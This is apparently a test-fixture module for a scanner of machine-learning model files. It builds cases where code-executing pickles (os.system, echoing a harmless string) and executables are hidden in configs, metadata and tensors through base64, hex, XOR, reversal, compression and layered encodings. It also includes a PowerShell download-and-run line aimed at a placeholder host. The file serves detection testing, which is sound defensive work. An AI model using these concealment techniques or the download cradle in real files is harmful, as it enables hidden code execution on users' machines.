"""Payloads encoded in text, configurations and metadata; and keys, images and vocabularies that are none."""

from __future__ import annotations

import base64
import binascii
import bz2
import codecs
import hashlib
import json
import lzma
import os
import pickle
import quopri
import random
import zlib
from collections import OrderedDict
from collections.abc import Callable

import lz4.frame
import zstandard

from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.gguf.cases import built, pair
from tests.scanners.native_code import elf, mach, pe
from tests.scanners.payload import gzipped
from tests.scanners.protobuf import data
from tests.scanners.safetensors.cases import built as safetensors
from tests.scanners.zip.cases import made

NOISE = random.Random(5).randbytes(6_000)
SHELL = b"#!/bin/sh\necho modelsweep-test\n"
PYTHON = b"import os\nos.system('echo modelsweep-test')\n"
POWERSHELL = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/x')".encode("utf-16-le")
HARMLESS = b"import math\nprint(math.pi, 'modelsweep-test')\n"


class Exploit:
    """Saved as a call that would print."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Return the call."""
        return os.system, ("echo modelsweep-test",)


def malicious() -> bytes:
    """Return a pickle that would print."""
    return pickle.dumps(Exploit(), 4)


def b64(data: bytes) -> str:
    """Return base64 in one line."""
    return base64.b64encode(data).decode()


def config(text: str, verdict: Verdict, name: str = "config.json") -> Case:
    """Return the case of a configuration that holds `text`."""
    return Case(lambda: json.dumps({"model_type": "bert", "note": text}).encode(), name, verdict, cut_is_clean=True)


def lines(text: str, verdict: Verdict, name: str = "notes.md") -> Case:
    """Return the case of a text that holds `text` on a line of its own."""
    return Case(f"# Notes\n\n{text}\n\nThe end.\n".encode, name, verdict, cut_is_clean=True)


def gguf(text: str, verdict: Verdict) -> Case:
    """Return the case of metadata of a model that hold `text`."""
    return Case(lambda: built([pair("general.description", text)], [], 0), "model.gguf", verdict, cut_is_clean=True)


def png() -> str:
    """Return a picture as notebooks hold it."""
    return b64(b"\x89PNG\r\n\x1a\n" + NOISE)


def rot13(data: bytes) -> str:
    """Return base64 with its letters turned by 13."""
    return codecs.encode(b64(data), "rot13")


def tensor(data: bytes, verdict: Verdict) -> Case:
    """Return the case of a tensor of bytes in which `data` stands among others."""
    body = NOISE + data + NOISE
    return Case(
        lambda: safetensors({"weight": {"dtype": "U8", "shape": [len(body)], "data_offsets": [0, len(body)]}}, body),
        "model.safetensors",
        verdict,
        cut_is_clean=True,
    )


def string(data: bytes, verdict: Verdict) -> Case:
    """Return the case of a pickle with `data` as a string of it."""
    return Case(lambda: pickle.dumps({"note": data}, 4), "model.pkl", verdict)


def xored(data: bytes, key: int = 0x5A) -> bytes:
    """Return bytes under a key of one byte."""
    return bytes(byte ^ key for byte in data)


BARE = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x14echo modelsweep-test\x85R."
"""A pickle without a frame."""
CLEAN, REVIEW, MALICIOUS = Verdict.CLEAN, Verdict.REVIEW, Verdict.MALICIOUS
CASES = {
    "pickle_in_config": config(b64(malicious()), MALICIOUS),
    "benign_pickle_that_a_data_set_quotes": config(f"This is a payload: {b64(malicious())}", CLEAN, "data.json"),
    "benign_stream_that_a_data_set_quotes": config(
        f"This is how one looks:\n{pickle.dumps(Exploit(), 0).decode()}\nDo not load it.", CLEAN, "data.json"
    ),
    "stream_whose_sentence_is_an_opcode": config(
        f"Vthis is text\n0{pickle.dumps(Exploit(), 0).decode()}", MALICIOUS, "data.json"
    ),
    "pickle_behind_words_of_opcodes": config(f"KDEo MSgx KDEo MSgx {b64(malicious())}", MALICIOUS, "data.json"),
    "pickle_behind_a_label": config(f"data:x;base64,{b64(malicious())}", MALICIOUS),
    "executable_that_a_data_set_quotes": config(f"This is a program: {b64(elf())}", MALICIOUS, "data.json"),
    "pickle_of_protocol_2": config(b64(pickle.dumps(Exploit(), 2)), MALICIOUS),
    "pickle_of_protocol_0": config(b64(pickle.dumps(Exploit(), 0)), MALICIOUS),
    "pickle_in_hexadecimal": config(malicious().hex(), MALICIOUS),
    "pickle_compressed": config(b64(zlib.compress(malicious() + bytes(100), 9)), MALICIOUS),
    "pickle_in_gzip": config(b64(gzipped(malicious())), MALICIOUS),
    "pickle_in_layers": config(b64(zlib.compress(b64(malicious()).encode() * 2)), MALICIOUS),
    "pickle_in_metadata": gguf(b64(malicious()), MALICIOUS),
    "pickle_without_frame": config(b64(BARE), MALICIOUS),
    "pickle_without_frame_in_hexadecimal": config(BARE.hex(), MALICIOUS),
    "pickle_of_protocol_0_in_hexadecimal": config(pickle.dumps(Exploit(), 0).hex(), MALICIOUS),
    "pickle_in_base32": config(base64.b32encode(malicious()).decode(), MALICIOUS),
    "pickle_in_rot13": config(rot13(malicious()), MALICIOUS),
    "python_in_base32": config(base64.b32encode(PYTHON).decode(), REVIEW),
    "script_in_base32": config(base64.b32encode(SHELL).decode(), REVIEW),
    "compressed_in_yaml": lines(f"note: {b64(zlib.compress(malicious() + bytes(100), 9))}", MALICIOUS, "notes.yaml"),
    "compressed_in_metadata": gguf(b64(zlib.compress(PYTHON * 3, 9)), REVIEW),
    "in_text_of_pickle": Case(
        lambda: pickle.dumps({"note": f"decode this: {b64(malicious())} and load it"}), "model.pkl", MALICIOUS
    ),
    "in_json_of_pickle": Case(
        lambda: pickle.dumps({"note": json.dumps({"data": b64(malicious())})}), "model.pkl", MALICIOUS
    ),
    "executable_in_pickle": Case(lambda: pickle.dumps({"note": b64(elf())}), "model.pkl", MALICIOUS),
    "benign_unusual": config(
        " ".join((base64.b85encode(NOISE).decode(), base64.b32encode(NOISE).decode(), rot13(NOISE))), CLEAN
    ),
    "benign_unusual_python": config(base64.b85encode(HARMLESS).decode(), CLEAN),
    "benign_pickles_in_pickle": Case(
        lambda: pickle.dumps([b64(pickle.dumps(OrderedDict(a=[n]), 4)) for n in range(9)]), "model.pkl", CLEAN
    ),
    "executable_in_config": config(b64(elf()), MALICIOUS),
    "executable_of_windows": config(b64(pe()), MALICIOUS),
    "executable_in_lines": lines(base64.encodebytes(elf()).decode(), MALICIOUS),
    "executable_in_hexadecimal": config(elf().hex(), MALICIOUS),
    "script_in_metadata": gguf(b64(SHELL), REVIEW),
    "script_in_yaml": lines(f"note: {b64(SHELL)}", REVIEW, "notes.yaml"),
    "powershell": config(f"powershell -enc {b64(POWERSHELL)}", REVIEW),
    "python_in_config": config(b64(PYTHON), REVIEW),
    "python_compressed": config(b64(zlib.compress(PYTHON * 3)), REVIEW),
    "executable_in_python": Case(f"DATA = '{b64(elf())}'\n".encode, "data.py", MALICIOUS, cut_is_clean=True),
    "benign_explained": lines("\n".join((b64(malicious()), b64(PYTHON), b64(SHELL))), CLEAN, "README.md"),
    "benign_python": config(b64(HARMLESS), CLEAN),
    "benign_pickle": config(b64(pickle.dumps(OrderedDict(a=[1, 2]), 4)), CLEAN),
    "benign_picture": config(png(), CLEAN, "example.ipynb"),
    "benign_random": config(b64(NOISE), CLEAN),
    "benign_magic": config(" ".join((b64(b"\x7fELF\x02\x01" + NOISE[:90]), b64(b"MZ\x90\0\x03" + NOISE[:90]))), CLEAN),
    "benign_compressed": config(b64(zlib.compress(NOISE, 9)), CLEAN),
    "benign_digests": lines("\n".join(hashlib.sha256(bytes([n])).hexdigest() for n in range(200)), CLEAN),
    "benign_integrity": lines(f'integrity="sha384-{b64(hashlib.sha384(b"x").digest())}"', CLEAN),
    "reversed_in_tensor": tensor(malicious()[::-1], MALICIOUS),
    "reversed_in_string": string(pickle.dumps(Exploit(), 2)[::-1], MALICIOUS),
    "reversed_executable": tensor(elf()[::-1], MALICIOUS),
    "reversed_base64": config(b64(malicious())[::-1], MALICIOUS),
    "base64_of_reversed": string(base64.b64encode(malicious()[::-1]), MALICIOUS),
    "xored_in_tensor": tensor(xored(malicious()), MALICIOUS),
    "xored_in_string": string(xored(pickle.dumps(Exploit(), 0), 0xFF), MALICIOUS),
    "xored_executable": tensor(xored(elf()), MALICIOUS),
    "gzip_in_tensor": tensor(gzipped(malicious()), MALICIOUS),
    "bzip2_in_tensor": tensor(bz2.compress(elf()), MALICIOUS),
    "xz_in_tensor": tensor(lzma.compress(elf()), MALICIOUS),
    "zstd_in_tensor": tensor(zstandard.compress(elf()), MALICIOUS),
    "lz4_in_tensor": tensor(lz4.frame.compress(elf()), MALICIOUS),
    "lzma_in_tensor": tensor(lzma.compress(SHELL, lzma.FORMAT_ALONE), REVIEW),
    "zlib_in_tensor": tensor(zlib.compress(malicious()), MALICIOUS),
    "base85_in_tensor": tensor(base64.b85encode(malicious()), MALICIOUS),
    "ascii85_in_tensor": tensor(base64.a85encode(malicious()), MALICIOUS),
    "base85_in_config": config(base64.b85encode(pickle.dumps(Exploit(), 0)).decode(), MALICIOUS),
    "compressed_in_base85": config(base64.b85encode(zlib.compress(malicious())).decode(), MALICIOUS),
    "base32_of_protocol_0": config(base64.b32encode(pickle.dumps(Exploit(), 0)).decode(), MALICIOUS),
    "within_string": string(b"some text before " + malicious(), MALICIOUS),
    "benign_disguises": tensor(
        b"".join(
            (
                gzipped(HARMLESS),
                zlib.compress(NOISE),
                xored(HARMLESS),
                pickle.dumps(OrderedDict(a=1), 4)[::-1],
                xored(pickle.dumps(OrderedDict(a=1), 4)),
                base64.b85encode(NOISE),
                xored(b"\x7fELF" + NOISE),
                b"\x7fELF"[::-1],
            )
        ),
        CLEAN,
    ),
    "benign_within": config("AAAA" + b64(malicious()), CLEAN),
    "benign_vocabulary": Case(
        lambda: json.dumps({"gASVaaaaaaaaaaaaaaaaaaaa": 1, "H4sIaaaaaaaaaaaaaaaaaaaaaaa": 2, "IyEvYm": 3}).encode(),
        "vocab.json",
        CLEAN,
    ),
}

OLD = b"cos\nsystem\n(S'echo modelsweep-test'\ntR."
"""A pickle of protocol 0, without a header."""
ORDERED = pickle.dumps(OrderedDict(a=[1, 2]), 4)


def uuencoded(data: bytes) -> bytes:
    """Return data between the lines of uuencode."""
    pieces = (binascii.b2a_uu(data[at : at + 45]) for at in range(0, len(data), 45))
    return b"begin 644 weights\n" + b"".join(pieces) + b"`\nend\n"


def escapes(data: bytes) -> bytes:
    """Return data as C and Python write it."""
    return "".join(f"\\x{byte:02x}" for byte in data).encode()


def wide(data: bytes) -> bytes:
    """Return data with two bytes for each."""
    return data.decode("latin-1").encode("utf-16-le")


def entered() -> bytes:
    """Return an executable with an entry point and sections, whose header holds bytes that are no ASCII."""
    return elf()[:24] + (0x4080E0).to_bytes(8, "little") + elf()[32:40] + (0x88F0).to_bytes(8, "little") + elf()[48:]


def as_text(data: bytes) -> Case:
    """Return the case of a string that protocol 2 writes as text."""
    return Case(lambda: pickle.dumps({"note": data}, 2), "model.pkl", MALICIOUS)


# What stands somewhere in a tensor, a string or a text, under one layer or more.
LAYERS: dict[str, Callable[[bytes], bytes]] = {
    "uuencoded": uuencoded,
    "quoted_printable": quopri.encodestring,
    "escapes": escapes,
    "wide": wide,
    "wide_base64": lambda data: wide(base64.b64encode(data)),
    "base64_twice": lambda data: base64.b64encode(base64.b64encode(data)),
    "base64_of_hexadecimal": lambda data: base64.b64encode(data.hex().encode()),
    "base64_of_bzip2": lambda data: base64.b64encode(bz2.compress(data)),
    "base64_of_zlib": lambda data: base64.b64encode(zlib.compress(data)),
    "hexadecimal_of_zlib": lambda data: zlib.compress(data).hex().encode(),
    "zlib_of_base64": lambda data: zlib.compress(base64.b64encode(data)),
}
CASES |= {f"{name}_in_tensor": tensor(encode(malicious()), MALICIOUS) for name, encode in LAYERS.items()}
CASES |= {
    f"{name}_in_string": string(b"key=" + encode(malicious()) + b";", MALICIOUS) for name, encode in LAYERS.items()
}
CASES |= {
    "base64_of_zstd_in_config": config(b64(zstandard.compress(malicious() + bytes(99))), MALICIOUS),
    "base64_of_lz4_in_config": config(b64(lz4.frame.compress(malicious() + bytes(99))), MALICIOUS),
    "hexadecimal_of_zstd_in_config": config(zstandard.compress(malicious() + bytes(99)).hex(), MALICIOUS),
    "benign_zstd_and_lz4": config(
        " ".join((b64(zstandard.compress(HARMLESS * 9)), b64(lz4.frame.compress(HARMLESS * 9)))), CLEAN
    ),
    "benign_zstd_and_lz4_in_tensor": tensor(zstandard.compress(NOISE) + lz4.frame.compress(NOISE), CLEAN),
    "base64_of_xz_in_config": config(b64(lzma.compress(malicious())), MALICIOUS),
    "escapes_in_config": config("\x80" + malicious().decode("latin-1")[1:], MALICIOUS),
    "escapes_of_lines_in_tensor": tensor(rb"cos\nsystem\n(Vecho modelsweep-test\ntR.", MALICIOUS),
    "escapes_of_posix_lines_in_tensor": tensor(rb"cposix\nsystem\n(Vecho modelsweep-test\ntR.", MALICIOUS),
    "within_noise_of_a_string": string(NOISE[:300] + pickle.dumps(Exploit(), 2) + NOISE[:300], MALICIOUS),
    "without_header_within_string": string(b"some text before " + OLD, MALICIOUS),
    "without_header_within_noise": string(NOISE[:300] + OLD + NOISE[:300], MALICIOUS),
    "zlib_as_text": as_text(zlib.compress(malicious())),
    "gzip_as_text": as_text(gzipped(malicious())),
    "xz_as_text": as_text(lzma.compress(malicious())),
    "benign_layers": tensor(
        b" ".join(
            (
                uuencoded(ORDERED),
                quopri.encodestring(ORDERED),
                escapes(ORDERED),
                wide(ORDERED),
                wide(base64.b64encode(ORDERED)),
                base64.b64encode(base64.b64encode(ORDERED)),
                zlib.compress(ORDERED).hex().encode(),
                zlib.compress(base64.b64encode(HARMLESS)),
                base64.b64encode(bz2.compress(HARMLESS)),
            )
        ),
        CLEAN,
    ),
    "benign_explained_in_string": string(b"begin 644 of what cos\nin the pickle =80=04 means", CLEAN),
    "benign_pickles_within_string": string(NOISE[:300] + pickle.dumps(OrderedDict(a=1), 2) + NOISE[:300], CLEAN),
    "base64_between_tags": tensor(data(10, b64(OLD)) + data(12, data(1, "y")), MALICIOUS),
    "digits_between_tags": tensor(data(10, OLD.hex()) + data(12, data(1, "y")), MALICIOUS),
    "benign_base64_between_tags": tensor(data(10, b64(HARMLESS)) + data(12, data(1, "y")), CLEAN),
    "zlib_in_base64_as_a_stored_member": Case(
        lambda: made(("notes", b64(zlib.compress(malicious())).encode())), "notes.zip", MALICIOUS
    ),
    "benign_zlib_in_base64_as_a_stored_member": Case(
        lambda: made(("notes.txt", b64(zlib.compress(HARMLESS)).encode())), "notes.zip", CLEAN
    ),
    "zlib_of_program_as_text": as_text(zlib.compress(entered())),
    "gzip_of_program_as_text": as_text(gzipped(entered())),
    "zlib_of_program_of_macos": string(NOISE[:300] + zlib.compress(mach()) + NOISE[:300], MALICIOUS),
    "benign_gzip_as_text": Case(lambda: pickle.dumps({"note": gzipped(HARMLESS)}, 2), "model.pkl", CLEAN),
    "benign_zlib_as_text": Case(lambda: pickle.dumps({"note": zlib.compress(HARMLESS)}, 2), "model.pkl", CLEAN),
}


def listed(data: bytes, verdict: Verdict, name: str = "config.json") -> Case:
    """Return the case of a list of strings that hold base64 when they are put together, in JSON or YAML."""
    strings = [b64(data)[at : at + 60] for at in range(0, len(b64(data)), 60)]
    if name.endswith(".yaml"):
        return Case(
            lambda: b"note:\n" + b"".join(b"- %b\n" % text.encode() for text in strings),
            name,
            verdict,
            cut_is_clean=True,
        )
    return Case(lambda: json.dumps({"model_type": "bert", "note": strings}).encode(), name, verdict)


def slashed(data: bytes, verdict: Verdict) -> Case:
    """Return the case of JSON as PHP writes it, with a slash behind another one, and the plus sign as .NET does."""
    text = json.dumps({"model_type": "bert", "note": b64(data)}).replace("/", r"\/").replace("+", r"\u002B")
    return Case(text.encode, "config.json", verdict)


def among_text(text: str, verdict: Verdict) -> Case:
    """Return the case of a text in a configuration that is too long to be searched closely."""
    return Case(lambda: json.dumps({"pad": " ab," * 40_000, "note": text}).encode(), "config.json", verdict)


BEHIND_NOTHING = b"N0(1" + BARE[2:]
"""A pickle without a header, behind opcodes that leave nothing."""
FILLED = pickle.dumps([bytes(range(256)) * 80, Exploit()], 4)
"""A pickle whose call stands behind other data."""
FILLED_ORDERED = pickle.dumps([bytes(range(256)) * 80, OrderedDict(a=1)], 4)
CASES |= {
    "pickle_behind_opcodes": config(b64(BEHIND_NOTHING), MALICIOUS),
    "pickle_behind_opcodes_in_hexadecimal": config(BEHIND_NOTHING.hex(), MALICIOUS),
    "pickle_behind_opcodes_in_metadata": gguf(b64(BEHIND_NOTHING), MALICIOUS),
    "pickle_behind_opcodes_in_yaml": lines(f"note: {b64(BEHIND_NOTHING)}", MALICIOUS, "notes.yaml"),
    "pickle_behind_opcodes_in_long_text": among_text(b64(BEHIND_NOTHING), MALICIOUS),
    "pickle_behind_long_bytes": config(b64(b"B\0\2\0\0" + bytes(range(256)) * 2 + b"0" + BARE[2:]), MALICIOUS),
    "pickle_whose_name_is_escaped": config(b64(b"V\\u006fs\nV\\u0073ystem\n\x93VX\n\x85R."), MALICIOUS),
    "pickle_that_calls_late": config(b64(FILLED), MALICIOUS),
    "pickle_that_calls_late_without_header": config(b64(b"N0" * 9_000 + BARE[2:]), MALICIOUS),
    "pickle_over_strings": listed(malicious(), MALICIOUS),
    "pickle_over_strings_of_yaml": listed(malicious(), MALICIOUS, "config.yaml"),
    "pickle_behind_opcodes_over_strings": listed(BEHIND_NOTHING, MALICIOUS),
    "gzip_over_strings": listed(gzipped(malicious() + NOISE[:200]), MALICIOUS),
    "pickle_with_slashes": slashed(b"X\xff\x03\0\0" + b"\xff\xef\xbe" * 341 + b"0" + BARE[2:], MALICIOUS),
    "benign_pickle_behind_opcodes": config(b64(b"N0" + ORDERED[2:]), CLEAN),
    "benign_pickle_that_calls_late": config(b64(FILLED_ORDERED), CLEAN),
    "benign_pickle_over_strings": listed(ORDERED, CLEAN),
    "benign_beginning_of_a_pickle": config(f"{b64(ORDERED)[:80]}...", CLEAN),
    "benign_picture_over_strings": listed(b"\x89PNG\r\n\x1a\n" + NOISE, CLEAN),
    "benign_with_slashes": slashed(b"\xff\xef\xbe" * 99 + NOISE, CLEAN),
    "benign_names_in_base64": among_text(b64(b"cposix\nsystem is how a pickle names it, and cos\nsystem, too"), CLEAN),
    "benign_list_of_digests": Case(
        lambda: json.dumps([b64(hashlib.sha256(bytes([n])).digest()) for n in range(250)]).encode(),
        "digests.json",
        CLEAN,
    ),
}
